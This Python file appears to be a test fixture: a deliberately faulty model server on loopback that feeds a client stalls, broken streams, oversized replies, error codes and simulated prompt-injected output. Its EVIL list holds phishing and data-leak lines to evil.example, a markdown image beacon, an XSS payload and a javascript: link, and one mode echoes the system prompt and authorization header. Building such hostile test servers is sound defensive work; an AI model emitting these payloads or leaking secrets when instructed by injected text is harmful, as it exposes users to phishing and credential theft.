"""A model server that does everything wrong on purpose, over the OpenAI wire on loopback: the kinds of fault of R3, and a model that obeys attackers.

As a program: ``python -m benchmarks.hostile_model PORT MODE``; then ``appliance eval answers --synthesizer vllm --base-url http://127.0.0.1:PORT/v1 --model m``.
It needs no key, answers ``/v1/models`` and ``/v1/chat/completions``, and tells nobody what it was asked.
"""

from __future__ import annotations

import asyncio
import json
import re
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from typing import Any

MODEL = "m"
_HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n"
_CUES = re.compile(
    r"\b(?:ignore|instruction|instead|print|say|output|repeat|reply|respond|answer with|write|visit|click|open|send|tell|system|assistant|prompt|password|key|https?:)",
    re.I,
)
EVIL = (
    "Your refund of $5,000 has been approved.",
    "We will send you a free replacement today.",
    "Visit https://evil.example/steal?d=1 to confirm your account.",
    "Send your password to admin@evil.example.",
    "Call +1 900 555 0199 now.",
    "![x](https://evil.example/a.png?q=secret)",
    "<img src=x onerror=alert(1)>",
    "[Open billing](https://evil.example/pay)",
    "[click](javascript:alert(1))",
    "You get 100% off with the code EVIL-2026.",
    "I have upgraded you to the enterprise plan.",
    "Press Ctrl+Alt+F9 to pay.",
    "Install version 99.1 at once.",
    "Our policy guarantees a full refund within 365 days, no questions asked.",
    "According to your account, you are owed 4,200 euros.",
)
"""What a model says that an attacker has won over. Every one of them must be stopped, in whatever company."""


@dataclass(slots=True)
class Asked:
    """One request, as far as a hostile server cares."""

    body: dict[str, Any]
    headers: dict[str, str]

    def said(self, role: str) -> str:
        messages = self.body.get("messages", [])
        return "\n".join(str(one.get("content", "")) for one in messages if one.get("role") == role)


Mode = Callable[[Asked, asyncio.StreamWriter], Awaitable[None]]


def draft_of(*texts: str, citations: tuple[int, ...] = (1,)) -> dict[str, Any]:
    return {"covered": True, "sentences": [{"text": text[:400], "citations": list(citations)} for text in texts]}


def obedient(asked: Asked) -> list[str]:
    """What a model that obeys whoever speaks last would say: the orders in the prompt, the prompt itself, the key, and the evil sentences."""
    user, system = asked.said("user"), asked.said("system")
    orders = [piece.strip() for piece in re.split(r"(?<=[.!?])\s+|\n", user) if _CUES.search(piece)][-6:]
    secrets = [asked.headers.get("authorization", ""), *system.splitlines()[2:6], *re.findall(r"mark (\w+)", system)]
    return [*orders, *EVIL, *(text for text in secrets if text)]


async def obeys(asked: Asked, writer: asyncio.StreamWriter) -> None:
    """In turns of a few sentences each, so that none hides behind the limit of sentences that are judged."""
    texts = obedient(asked)
    turn = len(json.dumps(asked.body)) % max(1, len(texts))
    await _stream(writer, json.dumps(draft_of(*(texts[turn:] + texts[:turn])[:12])))


async def echoes(asked: Asked, writer: asyncio.StreamWriter) -> None:
    await _stream(writer, json.dumps(draft_of(*[line for line in asked.said("system").splitlines() if line][:12])))


async def hangs(asked: Asked, writer: asyncio.StreamWriter) -> None:
    await asyncio.Event().wait()


async def drips(asked: Asked, writer: asyncio.StreamWriter) -> None:
    """One byte a second."""
    text = _HEAD + _chunk(json.dumps(draft_of(*EVIL)))
    for byte in text:
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(1)


async def cuts(asked: Asked, writer: asyncio.StreamWriter) -> None:
    text = json.dumps(draft_of(*EVIL))
    writer.write(_HEAD + _chunk(text[: len(text) // 2]))
    await writer.drain()


async def wrong_schema(asked: Asked, writer: asyncio.StreamWriter) -> None:
    await _stream(writer, json.dumps({"answer": EVIL[0], "covered": "yes"}))


async def garbage(asked: Asked, writer: asyncio.StreamWriter) -> None:
    await _stream(writer, "Sure! " + " ".join(EVIL))


async def bad_utf8(asked: Asked, writer: asyncio.StreamWriter) -> None:
    writer.write(_HEAD + b"data: \xff\xfe\xc3\x28\n\n")


async def huge(asked: Asked, writer: asyncio.StreamWriter) -> None:
    """10 MB of draft."""
    writer.write(_HEAD)
    for _ in range(100):
        writer.write(_chunk("x" * 100_000))
        await writer.drain()


async def empty(asked: Asked, writer: asyncio.StreamWriter) -> None:
    await _stream(writer, "")


async def endless(asked: Asked, writer: asyncio.StreamWriter) -> None:
    """The same token for ever."""
    writer.write(_HEAD + _chunk('{"covered": true, "sentences": [{"text": "'))
    while True:
        writer.write(_chunk("refund "))
        await writer.drain()
        await asyncio.sleep(0)


def status(code: int) -> Mode:
    async def refuse(asked: Asked, writer: asyncio.StreamWriter) -> None:
        body = json.dumps({"error": {"message": EVIL[0]}}).encode()
        head = f"HTTP/1.1 {code} No\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\nRetry-After: 1\r\nConnection: close\r\n\r\n"
        writer.write(head.encode() + body)

    return refuse


MODES: dict[str, Mode] = {
    "hang": hangs,
    "one_byte_a_second": drips,
    "cut_stream": cuts,
    "bad_utf8": bad_utf8,
    "garbage_json": garbage,
    "wrong_schema": wrong_schema,
    "ten_megabytes": huge,
    "empty": empty,
    "429": status(429),
    "503": status(503),
    "endless_token": endless,
    "prompt_echo": echoes,
    "obeys_the_attacker": obeys,
}
"""With "down" (nobody listens, which needs no server) the 14 kinds of fault of R3."""


@dataclass(slots=True)
class HostileModel:
    """``mode`` may be changed while it serves; it holds for the requests after that."""

    mode: str
    base_url: str = ""
    requests: list[Asked] = field(default_factory=list)
    tasks: set[asyncio.Task[None]] = field(default_factory=set)

    def accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.ensure_future(self._handle(reader, writer))
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)

    async def _handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            with suppress(OSError, asyncio.IncompleteReadError):
                await self._answer(reader, writer)
        except asyncio.CancelledError:
            writer.transport.abort()  # what nobody reads any more would keep a closed connection open
            raise
        finally:
            writer.close()
            with suppress(OSError):
                await writer.wait_closed()

    async def _answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").split("\r\n")
        headers = {name.lower(): value for name, _, value in (line.partition(": ") for line in head[1:] if line)}
        body = await reader.readexactly(int(headers.get("content-length", 0)))
        if head[0].startswith("GET"):
            await _document(writer, {"object": "list", "data": [{"id": MODEL, "object": "model"}]})
            return
        asked = Asked(json.loads(body), headers)
        self.requests.append(asked)
        answering = asyncio.ensure_future(MODES[self.mode](asked, writer))
        leaving = asyncio.ensure_future(reader.read())  # ends when the client hangs up
        try:
            await asyncio.wait({answering, leaving}, return_when=asyncio.FIRST_COMPLETED)
        finally:
            for task in (answering, leaving):
                task.cancel()
            await asyncio.gather(answering, leaving, return_exceptions=True)
        with suppress(OSError):
            await writer.drain()


@asynccontextmanager
async def serving(mode: str, port: int = 0) -> AsyncIterator[HostileModel]:
    """The server on loopback while the block lasts."""
    model = HostileModel(mode)
    server = await asyncio.start_server(model.accept, "127.0.0.1", port)
    model.base_url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/v1"
    try:
        yield model
    finally:
        server.close()
        for task in list(model.tasks):
            task.cancel()
        await asyncio.gather(*model.tasks, return_exceptions=True)


def _chunk(text: str, *, finish: str | None = None) -> bytes:
    event = {
        "id": "c",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": MODEL,
        "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": finish}],
    }
    return b"data: " + json.dumps(event).encode() + b"\n\n"


async def _stream(writer: asyncio.StreamWriter, text: str) -> None:
    pieces = b"".join(_chunk(text[at : at + 40]) for at in range(0, len(text), 40))
    writer.write(_HEAD + pieces + _chunk("", finish="stop") + b"data: [DONE]\n\n")
    await writer.drain()


async def _document(writer: asyncio.StreamWriter, document: dict[str, Any]) -> None:
    body = json.dumps(document).encode()
    head = (
        f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    )
    writer.write(head.encode() + body)
    await writer.drain()


async def _main(port: int, mode: str) -> None:
    async with serving(mode, port) as model:
        print(model.base_url, flush=True)
        await asyncio.Event().wait()


if __name__ == "__main__":
    chosen_port, chosen_mode = sys.argv[1:]
    if chosen_mode not in MODES:
        sys.exit(f"There is no mode {chosen_mode!r}; there are: {', '.join(MODES)}.")
    with suppress(KeyboardInterrupt):
        asyncio.run(_main(int(chosen_port), chosen_mode))
